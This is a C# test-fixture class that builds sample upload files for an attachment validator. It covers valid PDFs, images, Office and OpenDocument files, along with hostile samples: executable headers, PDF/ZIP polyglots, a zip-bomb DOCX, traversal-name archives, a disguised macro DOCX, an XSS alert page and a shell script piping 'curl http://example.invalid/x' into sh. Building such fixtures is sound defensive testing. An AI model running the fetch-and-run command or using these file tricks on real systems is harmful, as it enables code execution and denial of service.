using System.IO.Compression;
using System.Text;

namespace InitiativeHub.Testing.Attachments;

/// <summary>
/// Small good files of every recognized type and a corpus of bad ones (renamed programs, polyglots, a DOCX that
/// inflates past the limit, archives with traversal names), built here so nothing binary is checked in.
/// </summary>
public static class SampleFiles
{
    private const string ContentTypesXml =
        """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>""";

    public static byte[] Pdf() => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Png() =>
        [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xDE];

    public static byte[] Jpeg() => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9];

    public static byte[] Gif() => [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x3B];

    public static byte[] WebP() => [.. "RIFF"u8, 26, 0, 0, 0, .. "WEBPVP8 "u8, 14, 0, 0, 0, 0x30, 0x01, 0, 0x9D, 0x01, 0x2A, 1, 0, 1, 0, 0, 0, 0, 0];

    public static byte[] Mp4() => IsoMedia("isom");

    public static byte[] QuickTime() => IsoMedia("qt  ");

    public static byte[] Heic() => IsoMedia("heic");

    public static byte[] Docx() => Zip(("[Content_Types].xml", ContentTypesXml), ("_rels/.rels", "<Relationships/>"), ("word/document.xml", "<w:document>Sáng kiến</w:document>"));

    public static byte[] Xlsx() => Zip(("[Content_Types].xml", ContentTypesXml), ("_rels/.rels", "<Relationships/>"), ("xl/workbook.xml", "<workbook/>"));

    public static byte[] Pptx() => Zip(("[Content_Types].xml", ContentTypesXml), ("_rels/.rels", "<Relationships/>"), ("ppt/presentation.xml", "<presentation/>"));

    public static byte[] OpenDocument(string mimeType) =>
        Zip(("mimetype", mimeType), ("content.xml", "<office:document-content/>"), ("META-INF/manifest.xml", "<manifest/>"));

    public static byte[] VietnameseText() => Encoding.UTF8.GetBytes("Sáng kiến: ứng dụng Zalo OA tra cứu thủ tục hành chính.\nPhường Đống Đa, 2026.\n");

    public static byte[] WindowsExecutable() =>
        [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0, .. "This program cannot be run in DOS mode."u8];

    public static byte[] ElfExecutable() => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0];

    public static byte[] MachO(uint magic) => [(byte)(magic >> 24), (byte)(magic >> 16), (byte)(magic >> 8), (byte)magic, 7, 0, 0, 1, 3, 0, 0, 0];

    public static byte[] ShellScript() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

    public static byte[] ShellScriptWithByteOrderMark() => [0xEF, 0xBB, 0xBF, .. ShellScript()];

    public static byte[] Html() => Encoding.UTF8.GetBytes("  <!DOCTYPE html><html><script>alert(1)</script></html>");

    public static byte[] PlainZip() => Zip(("ghi-chu.txt", "xin chào"));

    /// <summary>A PDF that is also a ZIP archive (a "PDF+JAR" polyglot): readers of either format accept it.</summary>
    public static byte[] PdfWithZipAppended() => [.. Pdf(), .. PlainZip()];

    public static byte[] PngWithZipAppended() => [.. Png(), .. Docx()];

    /// <summary>A tiny DOCX whose document part inflates to <paramref name="inflatedBytes"/> of spaces.</summary>
    public static byte[] ZipBombDocx(int inflatedBytes)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            Write(archive, "[Content_Types].xml", ContentTypesXml);
            var entry = archive.CreateEntry("word/document.xml", CompressionLevel.SmallestSize);
            using var stream = entry.Open();
            var chunk = new byte[1024 * 1024];
            Array.Fill(chunk, (byte)' ');
            for (var written = 0; written < inflatedBytes; written += chunk.Length)
            {
                stream.Write(chunk, 0, Math.Min(chunk.Length, inflatedBytes - written));
            }
        }

        return buffer.ToArray();
    }

    public static byte[] DocxWithEntry(string entryName) =>
        Zip(("[Content_Types].xml", ContentTypesXml), ("word/document.xml", "<w:document/>"), (entryName, "#!/bin/sh\n"));

    /// <summary>A macro-enabled Word file (.docm) renamed to look harmless.</summary>
    public static byte[] MacroEnabledDocx() =>
        Zip(("[Content_Types].xml", ContentTypesXml.Replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)),
            ("word/document.xml", "<w:document/>"),
            ("word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\""));

    public static byte[] CorruptZip() => [.. "PK\u0003\u0004"u8, .. new byte[200]];

    public static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                Write(archive, name, content);
            }
        }

        return buffer.ToArray();
    }

    private static void Write(ZipArchive archive, string name, string content)
    {
        // The ODF "mimetype" entry must be stored, not deflated, so tools can read it at a fixed offset.
        var entry = archive.CreateEntry(name, name == "mimetype" ? CompressionLevel.NoCompression : CompressionLevel.Optimal);
        using var stream = entry.Open();
        stream.Write(Encoding.UTF8.GetBytes(content));
    }

    private static byte[] IsoMedia(string brand) =>
        [0, 0, 0, 0x18, .. "ftyp"u8, .. Encoding.ASCII.GetBytes(brand), 0, 0, 2, 0, .. Encoding.ASCII.GetBytes(brand), .. "mp41"u8, 0, 0, 0, 8, .. "free"u8];
}
